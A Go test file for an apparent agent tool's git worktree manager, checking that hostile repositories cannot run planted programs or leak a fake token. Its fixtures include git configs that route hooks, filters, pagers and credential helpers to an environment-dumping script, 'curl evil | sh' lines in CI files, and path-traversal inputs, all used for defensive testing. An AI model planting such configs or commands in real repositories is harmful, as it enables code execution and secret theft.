//go:build linux

package worktree

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// fakeSecret is what the tests put in agentos's environment: no git
// process may ever see it.
const fakeSecret = "secret-3b8f0c1d9e2a4f6b"

// seedHostile pushes to branch main of bare a commit with a gitlink at
// sub (and its .gitmodules), a .gitattributes that names a filter and a
// diff driver for every file, an executable CI script and a few files.
func seedHostile(t *testing.T, bare string) string {
	t.Helper()
	work := t.TempDir()
	runGit(t, work, "init", "-q", "-b", "main")
	files := map[string]string{
		"README.md":         "hello\n",
		"src/a.go":          "package a\n",
		".gitattributes":    "* filter=evil diff=evil merge=evil\n",
		".gitmodules":       "[submodule \"sub\"]\n\tpath = sub\n\turl = ./nowhere\n",
		"ci/run.sh":         "#!/bin/sh\necho ok\n",
		"ci/build.sh":       "#!/bin/sh\nmake\n",
		".github/ci.yml":    "on: push\n",
		"docs/untouched.md": "same\n",
	}
	for p, c := range files {
		mustWrite(t, filepath.Join(work, filepath.FromSlash(p)), c)
	}
	for _, p := range []string{"ci/run.sh", "ci/build.sh"} {
		if err := os.Chmod(filepath.Join(work, p), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	runGit(t, work, "add", "-A")
	runGit(t, work, "update-index", "--add", "--cacheinfo", "160000,1111111111111111111111111111111111111111,sub")
	runGit(t, work, "commit", "-q", "-m", "hostile base")
	runGit(t, work, "push", "-q", bare, "HEAD:refs/heads/main")
	return runGit(t, work, "rev-parse", "HEAD")
}

// plant makes the worktree dir what a hostile test run would leave: a
// gitfile sub/.git pointing at a planted git directory whose config names
// a program for every hook git has (fsmonitor, hooks, filter and diff
// drivers, external diff, pager, editor, core.worktree), and the same
// programs in the worktree's own .git/config and .git/hooks where the
// command line can override them. The program records its environment in
// mark and creates mark/pwned. It returns the program.
func plant(t *testing.T, dir, mark string) string {
	t.Helper()
	prog := filepath.Join(mark, "evil.sh")
	script := fmt.Sprintf("#!/bin/sh\nenv > %q/env-$$\ntouch %q/pwned\ncat\n", mark, mark)
	if err := os.WriteFile(prog, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	hooks := filepath.Join(mark, "hooks")
	if err := os.MkdirAll(hooks, 0o755); err != nil {
		t.Fatal(err)
	}
	hookNames := []string{"pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout", "post-merge", "post-index-change", "reference-transaction", "pre-push", "pre-auto-gc", "post-rewrite"}
	for _, h := range hookNames {
		if err := os.WriteFile(filepath.Join(hooks, h), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	planted := filepath.Join(dir, "planted")
	runGit(t, dir, "init", "-q", planted)
	cfg := fmt.Sprintf(`[core]
	fsmonitor = %[1]s
	hooksPath = %[2]s
	worktree = %[3]s
	pager = %[1]s
	editor = %[1]s
	sshCommand = %[1]s
	askPass = %[1]s
	alternateRefsCommand = %[1]s
[diff]
	external = %[1]s
[diff "evil"]
	command = %[1]s
	textconv = %[1]s
[filter "evil"]
	clean = %[1]s
	smudge = %[1]s
	process = %[1]s
	required = true
[merge "evil"]
	driver = %[1]s
[credential]
	helper = !%[1]s
[gpg]
	program = %[1]s
[commit]
	gpgSign = true
`, prog, hooks, dir)
	appendFile(t, filepath.Join(planted, ".git", "config"), cfg)
	for _, h := range hookNames {
		mustWrite(t, filepath.Join(planted, ".git", "hooks", h), script)
		os.Chmod(filepath.Join(planted, ".git", "hooks", h), 0o755)
	}
	// The gitlink's directory exists (checked out empty); a gitfile in it
	// makes it a populated submodule.
	mustWrite(t, filepath.Join(dir, "sub", ".git"), "gitdir: ../planted/.git\n")
	// The worktree's own repository: what -c can override.
	appendFile(t, filepath.Join(dir, ".git", "config"), fmt.Sprintf(`[core]
	fsmonitor = %[1]s
	hooksPath = %[2]s
	pager = %[1]s
	editor = %[1]s
	alternateRefsCommand = %[1]s
[diff]
	external = %[1]s
[credential]
	helper = !%[1]s
[gpg]
	program = %[1]s
[submodule]
	recurse = true
[status]
	submoduleSummary = true
`, prog, hooks))
	for _, h := range hookNames {
		mustWrite(t, filepath.Join(dir, ".git", "hooks", h), script)
		os.Chmod(filepath.Join(dir, ".git", "hooks", h), 0o755)
	}
	return prog
}

func appendFile(t *testing.T, p, s string) {
	t.Helper()
	f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(s); err != nil {
		t.Fatal(err)
	}
}

// ran reports what the planted program left in mark: whether it ran, and
// the environments it saw.
func ran(t *testing.T, mark string) (bool, string) {
	t.Helper()
	ents, err := os.ReadDir(mark)
	if err != nil {
		t.Fatal(err)
	}
	pwned, envs := false, ""
	for _, e := range ents {
		switch {
		case e.Name() == "pwned":
			pwned = true
		case strings.HasPrefix(e.Name(), "env-"):
			b, _ := os.ReadFile(filepath.Join(mark, e.Name()))
			envs += string(b)
		}
	}
	return pwned, envs
}

func clearMark(t *testing.T, mark string) {
	t.Helper()
	ents, _ := os.ReadDir(mark)
	for _, e := range ents {
		if e.Name() == "pwned" || strings.HasPrefix(e.Name(), "env-") {
			os.Remove(filepath.Join(mark, e.Name()))
		}
	}
}

// TestPlantedRepositoryRunsNothing is the attack of a hostile test: it
// plants a git directory behind the repository's gitlink and programs in
// every config key git runs, then agentos commits, pushes, records its
// log, moves HEAD and prepares the session again; and the git CLI is run
// through execGit on the planted worktree with the commands that do run
// those programs under a default git. Nothing planted may run, and no git
// process may see agentos's environment.
func TestPlantedRepositoryRunsNothing(t *testing.T) {
	gitBin, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git CLI")
	}
	t.Setenv("AGENTOS_GITHUB_TOKEN", fakeSecret)
	for _, b := range backends {
		t.Run(b.name, func(t *testing.T) {
			ctx := context.Background()
			srv := newGitServer(t)
			bare := srv.bare(t, testRepo.Owner, testRepo.Name)
			seedHostile(t, bare)
			m := newManager(t, srv, b.backend)
			const sid = "01HZXHOSTILESESSION1"
			s, err := m.Prepare(ctx, PrepareOptions{Repo: testRepo, SessionID: sid, Number: 3})
			if err != nil {
				t.Fatal(err)
			}
			defer func() { s.Close() }()
			mark := t.TempDir()
			plant(t, s.Dir, mark)

			// Control: the plant works. A git run as agentos ran it before
			// (its environment, no -c options) starts the planted program
			// and hands it the secret.
			cmd := exec.Command(gitBin, "-C", s.Dir, "status", "--porcelain")
			cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
			cmd.Run()
			if pwned, envs := ran(t, mark); !pwned || !strings.Contains(envs, fakeSecret) {
				t.Fatalf("control: the planted program did not run under a default git status (ran %v); the test proves nothing", pwned)
			}
			clearMark(t, mark)

			// What agentos does after a run.
			c := write(t, s.Dir, "README.md", "hello agent\n")
			if _, err := s.Commit(ctx, CommitOptions{Message: "work", RunID: "r1", Changes: []Change{c}}); err != nil {
				t.Fatal(err)
			}
			if err := s.Push(ctx); err != nil {
				t.Fatal(err)
			}
			if _, err := s.CommitArtifact(ctx, Artifact{RunID: "r1", Events: []byte("{}\n"), Snapshot: []byte("{}\n")}); err != nil {
				t.Fatal(err)
			}
			if _, err := s.Commit(ctx, CommitOptions{Message: "empty", RunID: "r1", AllowEmpty: true}); err != nil {
				t.Fatal(err)
			}
			if err := s.Push(ctx); err != nil {
				t.Fatal(err)
			}

			// Every git command execGit may be asked to run, on the
			// planted worktree and on the mirror.
			for _, args := range [][]string{
				{"status", "--porcelain"},
				{"diff", "HEAD"},
				{"add", "-A"},
				{"commit", "-q", "--allow-empty", "-m", "x"},
				{"checkout", "-q", "HEAD", "--", "README.md"},
				{"reset", "-q", "--hard", "HEAD"},
				{"submodule", "status"},
				{"gc", "--auto"},
			} {
				var out bytes.Buffer
				_ = execGit(ctx, gitBin, s.Dir, nil, nil, &out, args...)
			}
			_ = execGit(ctx, gitBin, m.mirrorDir(testRepo), nil, nil, nil, "repack", "-d", "-q", "--geometric=2")

			// A new process prepares the session again (the CLI backend runs
			// git reset --hard).
			s.Close()
			s, err = m.Prepare(ctx, PrepareOptions{Repo: testRepo, SessionID: sid, Number: 3})
			if err != nil {
				t.Fatal(err)
			}
			if !s.Resumed {
				t.Error("the session did not resume from its pushed branch")
			}
			if pwned, envs := ran(t, mark); pwned || envs != "" {
				t.Fatalf("a planted program ran (pwned %v); its environment:\n%s", pwned, envs)
			}
			// The planted files were never part of a commit.
			for _, p := range []string{"planted/.git/config", "sub/.git", "planted"} {
				if _, err := runGitErr(bare, nil, "cat-file", "-e", s.Branch+":"+p); err == nil {
					t.Errorf("%s is on the pushed branch", p)
				}
			}
		})
	}
}

// TestGitEnvironmentIsMinimal runs git through a wrapper that records its
// environment, both directly and as the CLI backend's git at Prepare.
func TestGitEnvironmentIsMinimal(t *testing.T) {
	gitBin, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git CLI")
	}
	mark := t.TempDir()
	wrapper := filepath.Join(mark, "git")
	if err := os.WriteFile(wrapper, fmt.Appendf(nil, "#!/bin/sh\nenv > %q/env-$$\necho \"$HOME\" >> %q/homes\nexec %q \"$@\"\n", mark, mark, gitBin), 0o755); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	srv := newGitServer(t)
	bare := srv.bare(t, testRepo.Owner, testRepo.Name)
	seed(t, bare, "main", map[string]string{"a.txt": "1\n"})
	// agentos's environment, which git must not get.
	t.Setenv("AGENTOS_GITHUB_TOKEN", fakeSecret)
	t.Setenv("GIT_DIR", "/nonexistent/agentos-test")
	t.Setenv("GIT_SSH_COMMAND", "false")
	m, err := New(Config{CacheDir: t.TempDir(), BaseURL: srv.url(), Token: staticToken(testToken), Backend: BackendCLI, GitPath: wrapper})
	if err != nil {
		t.Fatal(err)
	}
	s, err := m.Prepare(ctx, PrepareOptions{Repo: testRepo, SessionID: "envsession", Number: 1, Base: Base{Branch: "main"}})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := execGit(ctx, wrapper, s.Dir, []string{"GIT_AUTHOR_NAME=x"}, nil, nil, "status", "--porcelain"); err != nil {
		t.Fatal(err)
	}
	_, envs := ran(t, mark)
	if envs == "" {
		t.Fatal("the wrapper recorded no environment: git did not run through it")
	}
	allowed := map[string]bool{"PATH": true, "HOME": true, "XDG_CONFIG_HOME": true, "LC_ALL": true, "GIT_CONFIG_NOSYSTEM": true, "GIT_CONFIG_GLOBAL": true,
		"GIT_ATTR_NOSYSTEM": true, "GIT_NO_REPLACE_OBJECTS": true, "GIT_TERMINAL_PROMPT": true, "GIT_NO_LAZY_FETCH": true, "GIT_PROTOCOL_FROM_USER": true,
		"GIT_OPTIONAL_LOCKS": true, "GIT_AUTHOR_NAME": true,
		// Set by the shell that runs the wrapper.
		"PWD": true, "SHLVL": true, "_": true, "OLDPWD": true}
	for _, line := range strings.Split(strings.TrimSpace(envs), "\n") {
		name, _, _ := strings.Cut(line, "=")
		if !allowed[name] {
			t.Errorf("git got %q from agentos's environment", line)
		}
	}
	if strings.Contains(envs, fakeSecret) {
		t.Error("a git process saw the secret")
	}
	for _, want := range []string{"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "LC_ALL=C", "GIT_TERMINAL_PROMPT=0", "GIT_ATTR_NOSYSTEM=1", "GIT_NO_REPLACE_OBJECTS=1"} {
		if !strings.Contains(envs, want+"\n") {
			t.Errorf("git's environment lacks %s", want)
		}
	}
	homes, _ := os.ReadFile(filepath.Join(mark, "homes"))
	for _, h := range strings.Fields(string(homes)) {
		if h == os.Getenv("HOME") {
			t.Errorf("git ran with agentos's HOME %s", h)
		}
		if _, err := os.Stat(h); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("git's private HOME %s is left behind: %v", h, err)
		}
	}
}

// TestCommitTakesOnlyTheChangeSet: files commands wrote, edited or
// removed are not committed; a changed file of the change set fails the
// commit; paths into .git or under a gitlink are refused.
func TestCommitTakesOnlyTheChangeSet(t *testing.T) {
	for _, b := range backends {
		t.Run(b.name, func(t *testing.T) {
			ctx := context.Background()
			srv := newGitServer(t)
			bare := srv.bare(t, testRepo.Owner, testRepo.Name)
			base := seedHostile(t, bare)
			m := newManager(t, srv, b.backend)
			s, err := m.Prepare(ctx, PrepareOptions{Repo: testRepo, SessionID: "01HZXCHANGESET00001", Number: 5})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()

			// The kernel's file tools.
			changes := []Change{
				write(t, s.Dir, "src/a.go", "package a // v1\n"),
				write(t, s.Dir, "src/a.go", "package a // v2\n"), // the last write wins
				write(t, s.Dir, "ci/build.sh", "#!/bin/sh\nmake all\n"),
				write(t, s.Dir, "docs/new.md", "new\n"),
				write(t, s.Dir, "./docs/../notes.md", "notes\n"),
				remove(t, s.Dir, ".github/ci.yml"),
			}
			// Commands.
			mustWrite(t, filepath.Join(s.Dir, ".github", "workflows", "evil.yml"), "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil | sh}]}}\n")
			mustWrite(t, filepath.Join(s.Dir, "ci", "run.sh"), "#!/bin/sh\ncurl evil | sh\n")
			mustWrite(t, filepath.Join(s.Dir, "vendor", "lib", ".git", "config"), "[core]\n\tfsmonitor = evil\n")
			mustWrite(t, filepath.Join(s.Dir, "vendor", "lib", "x.go"), "package lib\n")
			if err := os.Remove(filepath.Join(s.Dir, "README.md")); err != nil {
				t.Fatal(err)
			}
			// A command rewrote a file the kernel wrote, back to what the
			// kernel wrote: the content is the kernel's, so it is taken.
			mustWrite(t, filepath.Join(s.Dir, "docs", "new.md"), "new\n")

			// Nothing of the kernel's: nothing to commit, whatever commands did.
			if _, err := s.Commit(ctx, CommitOptions{Message: "none"}); !errors.Is(err, ErrNoChanges) {
				t.Fatalf("Commit without changes = %v, want ErrNoChanges", err)
			}
			sha, err := s.Commit(ctx, CommitOptions{Message: "work", RunID: "r1", Changes: changes})
			if err != nil {
				t.Fatal(err)
			}
			if err := s.Push(ctx); err != nil {
				t.Fatal(err)
			}
			tree := runGit(t, bare, "ls-tree", "-r", "--format=%(objectmode) %(path)", sha)
			want := strings.Join([]string{
				"100644 .gitattributes",
				"100644 .gitmodules",
				"100644 README.md",
				"100755 ci/build.sh",
				"100755 ci/run.sh",
				"100644 docs/new.md",
				"100644 docs/untouched.md",
				"100644 notes.md",
				"100644 src/a.go",
				"160000 sub",
			}, "\n")
			if tree != want {
				t.Errorf("committed tree:\n%s\nwant:\n%s", tree, want)
			}
			for p, content := range map[string]string{"src/a.go": "package a // v2", "ci/build.sh": "#!/bin/sh\nmake all", "ci/run.sh": "#!/bin/sh\necho ok", "README.md": "hello"} {
				if got := runGit(t, bare, "show", sha+":"+p); got != content {
					t.Errorf("%s = %q, want %q", p, got, content)
				}
			}
			if got := runGit(t, bare, "rev-parse", sha+"^"); got != base {
				t.Errorf("parent = %s, want %s", got, base)
			}
			// The index agrees with the commit for what it committed.
			if st := runGit(t, s.Dir, "-c", "diff.ignoreSubmodules=all", "status", "--porcelain", "--untracked-files=no", "--", "src", "ci/build.sh", "docs", "notes.md", ".github/ci.yml"); st != "" {
				t.Errorf("status of the committed paths:\n%s", st)
			}

			// A command changed a file after the kernel wrote it.
			c := write(t, s.Dir, "src/b.go", "package b\n")
			mustWrite(t, filepath.Join(s.Dir, "src", "b.go"), "package b // and a backdoor\n")
			_, err = s.Commit(ctx, CommitOptions{Message: "more", Changes: append(changes, c)})
			var ce *ChangedError
			if !errors.As(err, &ce) || ce.Path != "src/b.go" || ce.Want != c.SHA256 || !strings.Contains(err.Error(), "repo.write") {
				t.Fatalf("Commit of a changed file = %v, want a ChangedError for src/b.go", err)
			}
			// A command replaced the file with a symlink, a FIFO, a directory.
			if err := os.Remove(filepath.Join(s.Dir, "src", "b.go")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("a.go", filepath.Join(s.Dir, "src", "b.go")); err != nil {
				t.Fatal(err)
			}
			if _, err := s.Commit(ctx, CommitOptions{Message: "more", Changes: []Change{{Path: "src/b.go", SHA256: sha256Hex("package a // v2\n")}}}); !errors.As(err, &ce) {
				t.Errorf("Commit through a symlink = %v, want a ChangedError", err)
			}
			os.Remove(filepath.Join(s.Dir, "src", "b.go"))
			if err := syscall.Mkfifo(filepath.Join(s.Dir, "src", "b.go"), 0o644); err != nil {
				t.Fatal(err)
			}
			if _, err := s.Commit(ctx, CommitOptions{Message: "more", Changes: []Change{c}}); !errors.As(err, &ce) {
				t.Errorf("Commit of a FIFO = %v, want a ChangedError", err)
			}
			os.Remove(filepath.Join(s.Dir, "src", "b.go"))
			// A symlinked directory on the way.
			if err := os.Symlink("src", filepath.Join(s.Dir, "lnk")); err != nil {
				t.Fatal(err)
			}
			if _, err := s.Commit(ctx, CommitOptions{Message: "more", Changes: []Change{{Path: "lnk/a.go", SHA256: sha256Hex("package a // v2\n")}}}); !errors.As(err, &ce) {
				t.Errorf("Commit through a symlinked directory = %v, want a ChangedError", err)
			}
			if got := runGit(t, bare, "rev-parse", s.Branch); got != sha {
				t.Errorf("a refused commit moved the branch: %s, want %s", got, sha)
			}

			// Paths no file tool can write.
			for _, p := range []string{"sub/.git", ".git/config", "x/.GIT/hooks/pre-commit", ".git./config", "x/.git  /y", "GIT~1/config", "../outside", "/etc/passwd", "", "a\\b"} {
				if _, err := s.Commit(ctx, CommitOptions{Message: "bad", Changes: []Change{{Path: p, SHA256: sha256Hex("x")}}}); !errors.Is(err, ErrInvalid) {
					t.Errorf("Commit of %q = %v, want ErrInvalid", p, err)
				}
			}
			// Under the gitlink (a planted submodule's checkout).
			sub := write(t, s.Dir, "sub/x.go", "package x\n")
			if _, err := s.Commit(ctx, CommitOptions{Message: "sub", Changes: []Change{sub}}); !errors.Is(err, ErrInvalid) {
				t.Errorf("Commit under the gitlink = %v, want ErrInvalid", err)
			}
			if _, err := s.Commit(ctx, CommitOptions{Message: "hash", Changes: []Change{{Path: "src/a.go", SHA256: "ABC"}}}); !errors.Is(err, ErrInvalid) {
				t.Errorf("Commit with a malformed hash = %v, want ErrInvalid", err)
			}

			// The session's change set is passed whole to later commits: a
			// file committed earlier and changed since by a command keeps
			// its committed content; the new change is taken.
			mustWrite(t, filepath.Join(s.Dir, "src", "a.go"), "package a // rewritten by a formatter\n")
			sha2, err := s.Commit(ctx, CommitOptions{Message: "more", Changes: append(changes, write(t, s.Dir, "src/c.go", "package c\n"))})
			if err != nil {
				t.Fatal(err)
			}
			if got := runGit(t, s.Dir, "show", sha2+":src/a.go"); got != "package a // v2" {
				t.Errorf("src/a.go = %q, want the kernel's v2", got)
			}
			if got := runGit(t, s.Dir, "show", sha2+":src/c.go"); got != "package c" {
				t.Errorf("src/c.go = %q", got)
			}
			if _, err := s.Commit(ctx, CommitOptions{Message: "again", Changes: changes}); !errors.Is(err, ErrNoChanges) {
				t.Errorf("Commit of the committed change set = %v, want ErrNoChanges", err)
			}
			empty, err := s.Commit(ctx, CommitOptions{Message: "draft", AllowEmpty: true})
			if err != nil {
				t.Fatal(err)
			}
			if a, b := runGit(t, s.Dir, "rev-parse", empty+"^{tree}"), runGit(t, s.Dir, "rev-parse", sha2+"^{tree}"); a != b {
				t.Errorf("the empty commit's tree %s is not its parent's %s", a, b)
			}
		})
	}
}

// TestPlantedRefsAndObjectsAreRefused: a command can write into the
// worktree's .git. A session branch moved to a commit the session did not
// make, or an object file replaced under the name of a commit the session
// made, is neither committed on nor published.
func TestPlantedRefsAndObjectsAreRefused(t *testing.T) {
	for _, b := range backends {
		t.Run(b.name, func(t *testing.T) {
			ctx := context.Background()
			srv := newGitServer(t)
			bare := srv.bare(t, testRepo.Owner, testRepo.Name)
			seed(t, bare, "main", map[string]string{"a.txt": "1\n"})
			m := newManager(t, srv, b.backend)
			s, err := m.Prepare(ctx, PrepareOptions{Repo: testRepo, SessionID: "01HZXPLANTEDREFS01", Number: 6})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			mine, err := s.Commit(ctx, CommitOptions{Message: "mine", Changes: []Change{write(t, s.Dir, "a.txt", "2\n")}})
			if err != nil {
				t.Fatal(err)
			}
			// A commit made by a command, on top of the session's, with a
			// workflow in it.
			blob := runGitIn(t, s.Dir, "on: push\n", "hash-object", "-w", "--stdin")
			tree := runGitIn(t, s.Dir, "100644 blob "+blob+"\tevil.yml\n", "mktree")
			evil := runGitIn(t, s.Dir, "", "commit-tree", tree, "-p", mine, "-m", "evil")
			ref := "refs/heads/" + s.Branch
			runGit(t, s.Dir, "update-ref", ref, evil)
			if _, err := s.Commit(ctx, CommitOptions{Message: "more", Changes: []Change{write(t, s.Dir, "b.txt", "b\n")}}); !errors.Is(err, ErrBranchMoved) {
				t.Errorf("Commit on a moved branch = %v, want ErrBranchMoved", err)
			}
			if _, err := s.Publish(ctx); !errors.Is(err, ErrBranchMoved) {
				t.Errorf("Publish of a moved branch = %v, want ErrBranchMoved", err)
			}
			if _, err := s.Head(); !errors.Is(err, ErrBranchMoved) {
				t.Errorf("Head of a moved branch = %v, want ErrBranchMoved", err)
			}
			if _, err := runGitErr(bare, nil, "rev-parse", "--verify", ref); err == nil {
				t.Fatalf("the branch reached the remote")
			}

			// The ref put back, the session's own commit object replaced by
			// the command's under its name.
			runGit(t, s.Dir, "update-ref", ref, mine)
			obj := func(h string) string { return filepath.Join(s.Dir, ".git", "objects", h[:2], h[2:]) }
			planted, err := os.ReadFile(obj(evil))
			if err != nil {
				t.Fatal(err)
			}
			os.Chmod(obj(mine), 0o644)
			if err := os.WriteFile(obj(mine), planted, 0o644); err != nil {
				t.Fatal(err)
			}
			if _, err := s.Commit(ctx, CommitOptions{Message: "more", Changes: []Change{write(t, s.Dir, "b.txt", "b\n")}}); !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "other content") {
				t.Errorf("Commit on a replaced object = %v, want ErrInvalid", err)
			}
			if _, err := s.Publish(ctx); err == nil {
				t.Error("Publish of a replaced object succeeded")
			}
			if out, err := runGitErr(bare, nil, "rev-parse", "--verify", ref); err == nil {
				if files := runGit(t, bare, "ls-tree", "-r", "--name-only", out); strings.Contains(files, "evil.yml") {
					t.Fatalf("the command's commit reached the remote: %s", files)
				}
			}
		})
	}
}

// runGitIn runs the git CLI in dir with stdin and returns its trimmed
// stdout.
func runGitIn(t *testing.T, dir, stdin string, args ...string) string {
	t.Helper()
	out, err := runGitErr(dir, []byte(stdin), args...)
	if err != nil {
		t.Fatalf("git %s: %v", strings.Join(args, " "), err)
	}
	return out
}
